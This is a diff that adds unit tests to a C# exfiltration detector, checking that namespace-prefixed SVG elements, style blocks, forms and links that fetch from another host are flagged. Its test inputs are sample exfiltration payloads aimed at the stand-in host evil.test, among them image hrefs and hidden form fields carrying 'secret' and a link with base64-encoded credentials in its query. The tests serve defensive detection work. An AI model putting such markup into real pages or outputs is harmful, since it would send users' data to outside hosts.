@@ -219,6 +219,52 @@ public class ExfilTests
     public void Svg_that_fetches_from_another_host_is_found(string text) =>
         Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
 
+    /// <summary>
+    /// SVG as XML writes it (an <c>image/svg+xml</c> file, XHTML): elements with a namespace prefix (<c>&lt;svg:image&gt;</c>,
+    /// <c>&lt;s:feImage&gt;</c>), read by their local name, and an <c>href</c> with any prefix bound to XLink's namespace
+    /// (<c>x:href</c>), with or without its declaration in the text; a prefixed style block is CSS to its end tag. The
+    /// element names were looked up whole and found no element, only <c>xlink:</c> was read as XLink, and the probe
+    /// (which opened on <c>&lt;image</c>, not <c>:image</c>) skipped a text holding nothing else.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><svg:image xlink:href=\"https://evil.test/p.png\"/></svg:svg>")]
+    [InlineData("<svg:image xlink:href='//evil.test/p.png?d=secret'/>")]
+    [InlineData("<svg:use href=\"https://evil.test/s.svg#x\"/>")]
+    [InlineData("<s:filter id=f><s:feImage href=//evil.test/p.png /></s:filter>")]
+    [InlineData("<image x:href=\"https://evil.test/p.png\" xmlns:x=\"http://www.w3.org/1999/xlink\"/>")]
+    [InlineData("<svg:pattern id=p l:href=\"//evil.test/p.svg#p\"/>")]
+    [InlineData("<a:b:script XL:HREF=//evil.test/s.js />")]
+    [InlineData("<svg:style>@import url(//evil.test/s.css);</svg:style>")]
+    [InlineData("<svg:style><![CDATA[ .a { fill: url(https://evil.test/p.svg#g) } ]]></svg:style>")]
+    public void Prefixed_svg_that_fetches_from_another_host_is_found(string text) =>
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
+
+    /// <summary>
+    /// Prefixed elements that fetch nothing (<c>&lt;svg:title&gt;</c>, <c>&lt;svg:rect&gt;</c>, even with an <c>x:href</c>,
+    /// which only elements that take one read), a prefixed <c>&lt;use&gt;</c> of the same document, an autolink (whose
+    /// scheme reads as a prefix of nothing), and a prefixed style block that ends at its end tag: the link after it is a
+    /// link, not CSS.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:title>//evil.test/x</svg:title><svg:desc>see https://evil.test/x</svg:desc></svg:svg>")]
+    [InlineData("<svg:rect x:href=\"https://evil.test/x\" width=9 /><svg:use xlink:href=\"#icon\"/><svg:image href=\"/local.png\"/>")]
+    [InlineData("See <https://evil.test/x> and <mailto:someone@evil.test>.")]
+    public void Prefixed_svg_that_fetches_nothing_from_another_host_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
+
+    [Fact]
+    public void A_prefixed_style_block_ends_at_its_end_tag() =>
+        Assert.Equal(("markdown_link", 0.7), SingleFinding("<svg:style>.a { fill: red }</svg:style><a href=\"https://evil.test/x\">here</a>"));
+
+    /// <summary>
+    /// A style block's text is CSS up to a tag named <c>style</c>: a tag whose name only begins so (<c>&lt;/styles&gt;</c>,
+    /// <c>&lt;stylesheet&gt;</c>) is text to a browser, and ended the block's reading, so the CSS after it was not read.
+    /// </summary>
+    [Theory]
+    [InlineData("<style>.a { color: red }</styles> body { background: url(//evil.test/p.png) }</style>")]
+    [InlineData("<style>.a { color: red } <stylesheet> body { background: url(//evil.test/p.png) }</style>")]
+    public void A_style_block_runs_past_a_tag_whose_name_only_begins_with_style(string text) =>
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
+
     [Theory]
     [InlineData("<svg><use href=\"#icon\"/><use xlink:href=\"/sprites.svg#a\"/><use href=\"https://example.com/s.svg#b\"/></svg>")]
     [InlineData("<svg><script href=\"/s.js\"></script></svg>")]
@@ -237,6 +283,7 @@ public class ExfilTests
     [InlineData("<a href=\"https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy\">here</a>", 0.9)]
     [InlineData("<map><area shape=rect coords=\"0,0,9,9\" href=\"https://evil.test/x\"></map>", 0.7)]
     [InlineData("<svg><a xlink:href=\"//evil.test/x\"><text>here</text></a></svg>", 0.7)]
+    [InlineData("<svg:a x:href=\"//evil.test/x\"><svg:text>here</svg:text></svg:a>", 0.7)]
     [InlineData("<a href=\"/local\" ping=\"/count https://evil.test/p\">here</a>", 0.7)]
     [InlineData("<form action=\"https://evil.test/collect\"><input type=hidden name=d value=secret><button>Go</button></form>", 0.9)]
     [InlineData("<form><input name=d value=secret><button formaction=//evil.test/c>Go</button></form>", 0.9)]
